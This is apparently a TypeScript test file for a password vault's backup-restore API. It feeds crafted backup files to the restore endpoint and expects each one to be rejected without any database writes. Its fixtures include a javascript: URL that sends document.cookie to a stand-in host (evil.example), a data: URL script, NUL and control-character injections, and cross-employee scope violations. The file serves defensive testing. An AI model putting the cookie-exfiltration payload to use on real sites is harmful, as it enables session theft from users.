import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { count } from 'drizzle-orm';
import { createTestApp, type TestApp } from '../../test/helpers/app.js';
import { ENGINES } from '../../test/helpers/db.js';
import { cliContext } from '../lib/context.js';
import { vaultAccountAssignments, vaultAccounts, vaultTemplates } from './vault-account.tables.js';
import { type BackupRecord, writeDocument } from './vault-backup-document.js';
import { encryptBackup } from './vault-backup-format.js';

/**
 * A backup file is authentic once its passphrase opens it, but it is still input: whoever made the
 * file chose every byte of it, and it reaches the database without passing the HTTP edge's text
 * guard or the vault API's field rules. These tests restore crafted files (both engines) and
 * expect each to be refused with 400 vault_backup.invalid_document, writing nothing: a
 * javascript: URL the portal would show as a link, a NUL the database cannot store (a 500), a lone
 * surrogate the driver would silently turn into U+FFFD (in a password too), and an OTP secret that
 * is not what the vault stores (every later reveal of it would fail).
 */
const PASSPHRASE = 'a long backup passphrase, kept offline';
/** The cheapest argon2id the format accepts: these tests are about the records, not the KDF. */
const CHEAP = { memoryKiB: 19_456, iterations: 1, parallelism: 1 };
const ALICE = 'alice@corp.example';
const BOB = 'bob@corp.example';

const manifest = {
  type: 'manifest' as const,
  format: 'tessera-vault-backup' as const,
  version: 1 as const,
  createdAt: '2026-01-01T00:00:00.000Z',
  scope: { kind: 'all' as const },
  source: 'https://elsewhere.example',
};

function account(over: Record<string, unknown> = {}): BackupRecord {
  return {
    type: 'account',
    id: crypto.randomUUID(),
    kind: 'personal',
    owner: { email: ALICE, externalIds: [] },
    name: 'Payroll',
    urls: ['https://payroll.example.com/login'],
    login: 'alice',
    password: 'Payroll-Pass-1!',
    otpSecret: null,
    notes: null,
    workstationUse: false,
    templateId: null,
    source: 'portal',
    passwordChangedAt: null,
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    assignees: [],
    departments: [],
    ...over,
  };
}

async function file(records: BackupRecord[], over: Record<string, unknown> = {}): Promise<Buffer> {
  const parts: Buffer[] = [];
  const m = { ...manifest, ...over } as typeof manifest;
  for await (const part of encryptBackup(writeDocument(m, records), { passphrase: PASSPHRASE, kdf: CHEAP })) parts.push(part);
  return Buffer.concat(parts);
}

for (const engine of ENGINES) {
  describe(`vault restore of crafted files (${engine})`, () => {
    let t: TestApp;
    let adminKey: string;

    const restore = async (body: Buffer) => {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/vault/restore?onConflict=overwrite',
        headers: { authorization: `Bearer ${adminKey}`, 'content-type': 'application/octet-stream', 'x-tessera-backup-passphrase': PASSPHRASE },
        payload: body,
      });
      return { status: res.statusCode, body: JSON.parse(res.body) };
    };
    const rows = async () => {
      const db = t.services.db;
      const [a] = await db.select({ n: count() }).from(vaultAccounts);
      const [s] = await db.select({ n: count() }).from(vaultAccountAssignments);
      const [tp] = await db.select({ n: count() }).from(vaultTemplates);
      return { accounts: a.n, assignments: s.n, templates: tp.n };
    };

    before(async () => {
      t = await createTestApp({ engine });
      await t.services.employees.create(cliContext(), { email: ALICE, firstName: 'Alice', lastName: 'Test' });
      await t.services.employees.create(cliContext(), { email: BOB, firstName: 'Bob', lastName: 'Test' });
      adminKey = (await t.services.apiKeys.create(cliContext(), { name: 'restore', scope: 'admin' })).secret;
    });
    after(() => t.close());

    it('restores a well-formed crafted file (the baseline the attacks differ from)', async () => {
      const res = await restore(await file([account({ name: 'Baseline' })]));
      assert.equal(res.status, 200, JSON.stringify(res.body));
      assert.equal(res.body.accounts.created, 1);
    });

    const attacks: [string, BackupRecord[]][] = [
      ['a javascript: application URL', [account({ urls: ['javascript:fetch("https://evil.example/?c="+document.cookie)'] })]],
      [
        'a data: URL in a template',
        [{ type: 'template', id: crypto.randomUUID(), name: 'Evil', urls: ['data:text/html,<script>x</script>'], loginHint: null, source: 'console' }],
      ],
      ['a NUL in an account name', [account({ name: 'Pay\u0000roll' })]],
      ['a NUL in the owner e-mail address', [account({ owner: { email: `${ALICE}\u0000`, externalIds: [] } })]],
      ['a NUL in an external id', [account({ owner: { email: ALICE, externalIds: ['id\u0000x'] } })]],
      ['a lone surrogate in a password', [account({ password: 'pass\ud800word' })]],
      ['control characters in a login', [account({ login: 'alice\u001b[2J' })]],
      ['an OTP secret that is not the vault format', [account({ otpSecret: 'not json at all' })]],
      ['an OTP secret with a period of 0 seconds', [account({ otpSecret: '{"secret":"JBSWY3DPEHPK3PXP","algorithm":"SHA1","digits":6,"period":0}' })]],
      ['notes longer than the vault takes', [account({ notes: 'x'.repeat(50_000) })]],
    ];
    const aliceOnly = { scope: { kind: 'employee', email: ALICE, externalIds: [] } };
    const scoped: [string, BackupRecord[], Record<string, unknown>][] = [
      ["another employee's personal account in a backup of Alice only", [account({ owner: { email: BOB, externalIds: [] } })], aliceOnly],
      [
        'a shared account granted to another employee in a backup of Alice only',
        [
          account({
            kind: 'shared',
            owner: null,
            name: 'Team',
            assignees: [
              { email: ALICE, externalIds: [] },
              { email: BOB, externalIds: [] },
            ],
          }),
        ],
        aliceOnly,
      ],
    ];
    for (const [what, records, over] of scoped) {
      it(`refuses ${what} and writes nothing`, async () => {
        const before = await rows();
        const res = await restore(await file([account({ name: `Alice's own before ${what}` }), ...records], over));
        assert.equal(res.status, 400, JSON.stringify(res.body));
        assert.equal(res.body.error.code, 'vault_backup.invalid_document');
        assert.match(res.body.error.message, /Record 2 .*bob@corp\.example.*alice@corp\.example only/);
        assert.deepEqual(await rows(), before);
      });
    }

    for (const [what, over] of [
      ['a NUL in the manifest', { source: 'https://x.example/\u0000' }],
      ['a 100 KB source in the manifest', { source: 'x'.repeat(100_000) }],
    ] as const) {
      it(`refuses ${what} (its strings reach the report and the audit log) and writes nothing`, async () => {
        const before = await rows();
        const res = await restore(await file([account({ name: `Before ${what}` })], over));
        assert.equal(res.status, 400, JSON.stringify(res.body));
        assert.equal(res.body.error.code, 'vault_backup.invalid_document');
        assert.deepEqual(await rows(), before);
      });
    }

    for (const [what, records] of attacks) {
      it(`refuses ${what} and writes nothing (the good record before it is rolled back too)`, async () => {
        const before = await rows();
        const res = await restore(await file([account({ name: `Good before ${what}` }), ...records]));
        assert.equal(res.status, 400, JSON.stringify(res.body));
        assert.equal(res.body.error.code, 'vault_backup.invalid_document', JSON.stringify(res.body));
        assert.match(res.body.error.message, /Record 2 /);
        assert.deepEqual(await rows(), before);
      });
    }
  });
}
